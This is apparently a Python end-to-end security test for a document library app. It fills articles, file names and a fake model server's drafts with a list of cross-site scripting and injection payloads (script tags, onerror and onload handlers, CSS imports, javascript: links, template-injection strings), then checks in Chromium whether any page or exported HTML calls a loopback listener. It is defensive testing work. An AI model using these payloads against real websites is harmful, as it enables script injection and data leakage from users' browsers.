"""Articles and drafts that try to call home, shown on every page beside a listener.

Takes an unused home and a folder beside it; fills a library with payloads (beacons, scripts, SVG,
styles, links, in texts, titles and names of files), opens it in Chromium, asks for quotations and
for a draft of a model server that writes payloads, and looks at every page and at the exported
HTML. Gives how often the listener heard something: never, or a promise is broken.
"""

from __future__ import annotations

import os
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

from evaluate.torture.rounds import Line

PROJECT = Path(__file__).resolve().parents[2]
QUESTION = "Why did the lantern of Skerrow lighthouse fail?"
MODEL = "payload-writer"
PAYLOADS = (
    "![pixel]({sink}/beacon.png)",
    '<img src="{sink}/img.png" onerror="window.hacked = 1">',
    "<script>window.hacked = 1; fetch('{sink}/script')</script>",
    '<script src="{sink}/code.js"></script>',
    '<svg onload="fetch(\'{sink}/svg\')"><image href="{sink}/svg.png"/></svg>',
    '<svg><use href="{sink}/use.svg#x"/><animate onbegin="window.hacked = 1"/></svg>',
    "<style>@import url({sink}/import.css); body {{ background: url({sink}/style.png) }}</style>",
    '<p style="background: url({sink}/inline.png)">',
    '<link rel="stylesheet" href="{sink}/sheet.css"><link rel="prefetch" href="{sink}/early">',
    '<link rel="dns-prefetch" href="{sink}"><link rel="preconnect" href="{sink}">',
    '<iframe src="{sink}/frame"></iframe><iframe srcdoc="<img src={sink}/inner.png>"></iframe>',
    '<a href="{sink}/link" ping="{sink}/ping">the harbour</a> [the harbour]({sink}/markdown)',
    '<meta http-equiv="refresh" content="0;url={sink}/refresh"><base href="{sink}/">',
    '<video poster="{sink}/poster.png" src="{sink}/film.mp4" autoplay></video>',
    '<object data="{sink}/object"></object><embed src="{sink}/embed">',
    '<form action="{sink}/form"><input autofocus onfocus="this.form.submit()"></form>',
    "<details open ontoggle=\"fetch('{sink}/toggle')\">more</details>",
    "[run](javascript:fetch('{sink}/javascript')) <a href=\"javascript:window.hacked=1\">run</a>",
    "$\\href{{{sink}/latex}}{{formula}}$ $$\\includegraphics{{{sink}/latex.png}}$$",
    ":material/home: :red[colour] {sink}/bare <!--><img src={sink}/comment.png>-->",
    "</script></style></textarea></title><img src='{sink}/closed.png'>",
    '"><img src="{sink}/quoted.png"><x y="',
    "{{{{ constructor.constructor(`fetch('{sink}/template')`)() }}}}",
)
# Elements and attributes that a payload has made, in every root of the page.
MADE = """sink => {
    const roots = [document, ...[...document.querySelectorAll('*')]
        .map(one => one.shadowRoot).filter(Boolean)];
    const calling = ['src', 'href', 'style', 'action', 'srcset', 'data', 'poster', 'srcdoc',
        'ping', 'content', 'xlink:href', 'background'];
    return roots.flatMap(root => [...root.querySelectorAll('*')])
        .filter(one => [...one.attributes].some(({name, value}) =>
            name.startsWith('on') || (calling.includes(name) && value.includes(sink))))
        .map(one => one.outerHTML.slice(0, 200));
}"""
# Whether words of a payload stand on the page: otherwise nothing was tried there.
READ = """sink => [document, ...[...document.querySelectorAll('*')]
    .map(one => one.shadowRoot).filter(Boolean)].some(root =>
        (root.body ?? root).textContent.includes(sink))"""


class Sink:
    """Listens on loopback and counts who comes."""

    def __init__(self) -> None:
        self.heard = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.heard += 1
            connection.close()

    def close(self) -> None:
        self._socket.close()


def tried(home: Path) -> Line:
    """The whole round, with a browser of its own."""
    from tests.e2e import browser

    with running(home) as (address, sink), browser.chromium() as chromium:
        window = browser.let_in(chromium.new_context(viewport={"width": 1440, "height": 900}))
        return shown(window.new_page(), address, home, sink)


@contextmanager
def running(home: Path) -> Iterator[tuple[str, Sink]]:
    """(the app's address, the listener): a library of payloads, and a server that drafts them."""
    from tests.answer.model_server import ModelServer
    from tests.e2e import browser

    sink, server = Sink(), ModelServer()
    write(home.parent / "articles", sink.address)
    command = [sys.executable, "cli.py", "--home", str(home), "add", str(home.parent / "articles")]
    subprocess.run(command, cwd=PROJECT, check=True, stdout=subprocess.DEVNULL)
    written = " ".join(PAYLOADS).format(sink=sink.address)
    server.script.models = [MODEL]
    server.script.deltas = [f"The lantern failed because a moth nest blocked the vent {written}."]
    before = os.environ.get("SOURCEBOOK_SERVER")
    os.environ["SOURCEBOOK_SERVER"] = server.address
    try:
        with browser.serve(home) as address:
            yield address, sink
    finally:
        os.environ.pop("SOURCEBOOK_SERVER")
        if before is not None:
            os.environ["SOURCEBOOK_SERVER"] = before
        server.close()
        sink.close()


def write(folder: Path, sink: str) -> None:
    """Articles that hold the payloads: as text, as a saved page, and in titles and names."""
    folder.mkdir(parents=True)
    texts = [payload.format(sink=sink) for payload in PAYLOADS]
    told = "The lantern of Skerrow lighthouse failed because {} a moth nest had blocked the vent."
    for number, text in enumerate(texts):
        title = f"Skerrow {text}\n\nBy {text}\n\n"
        body = f"{told.format(text)} {text} The keeper of Skerrow cleaned lamp {number}.\n"
        (folder / f"<img src=x onerror=alert({number})>.txt").write_text(title + body, "utf-8")
    paragraphs = "".join(f"<p>{told.format(text)}</p>\n{text}\n" for text in texts)
    page = (
        f"<html><head><title>Log</title></head><body><article>{paragraphs}</article></body></html>"
    )
    (folder / "saved page.html").write_text(page, "utf-8")


def shown(page: Any, address: str, home: Path, sink: Sink) -> Line:
    """Every page that shows words of articles or drafts, looked at."""
    page.set_default_timeout(60_000)
    broken: list[str] = []
    looks = read = 0
    for name in _looked_at(page, address, home):
        page.wait_for_timeout(300)  # what was to be fetched has been by now
        looks += 1
        read += page.evaluate(READ, sink.address)
        made = page.evaluate(MADE, sink.address)
        broken += [f"{name}: an element was made: {one}" for one in made]
        if page.evaluate("window.hacked !== undefined"):
            broken.append(f"{name}: a script ran")
        if sink.heard:
            broken.append(f"{name}: the listener was called")
    found = {"looks": looks, "with_payloads": read, "payloads": len(PAYLOADS)}
    return {**found, "heard": sink.heard, "broken": broken}


def _looked_at(page: Any, address: str, home: Path) -> Iterator[str]:
    """The name of each page once it is there."""
    from tests.e2e import browser

    page.goto(address)
    page.locator(".st-key-question textarea").wait_for()
    browser.ask(page, QUESTION)
    yield "quotations"
    answer = parse_qs(urlsplit(page.url).query)["answer"][0]
    page.locator(".mark, .card").first.hover()
    page.locator(".mark, .card").first.click()
    page.locator(".reader .body").wait_for()
    for mode in ("Clean text", "Original"):
        page.get_by_role("button", name=mode).click()
        yield f"reader, {mode}"
    page.keyboard.press("Escape")
    browser.ask(page, QUESTION, f"Written by {MODEL} on your server")
    page.get_by_text(re.compile("sentences? left out")).first.click()
    yield "draft"
    yield from _other_pages(page, address)
    exported = home.parent / "answer.html"
    command = [sys.executable, "cli.py", "--home", str(home), "export", answer]
    command += ["--format", "html", "--output", str(exported)]
    subprocess.run(command, cwd=PROJECT, check=True, stdout=subprocess.DEVNULL)
    page.goto(exported.as_uri())
    yield "exported answer"


def _other_pages(page: Any, address: str) -> Iterator[str]:
    for path, ready in (
        ("/search?words=Skerrow", ".card.hit"),
        ("/search?words=Skerrow&all=1", ".card.hit"),
        ("/library", "td.name"),
        ("/answers", ".rows .open"),
        ("/map", ".plane canvas"),
    ):
        page.goto(address + path)
        page.locator(ready).first.wait_for()
        yield path
    page.locator(".maphead .swap").click()
    page.locator(".maptable tbody tr").first.wait_for()
    yield "map, as a table"
    page.goto(f"{address}/quotation")
    field = page.get_by_role("textbox", name="The quotation")
    field.fill("a moth nest had blocked the vent")
    field.press("Enter")
    page.locator(".desk.quotation .count-line:not(:empty)").wait_for()
    yield "/quotation"
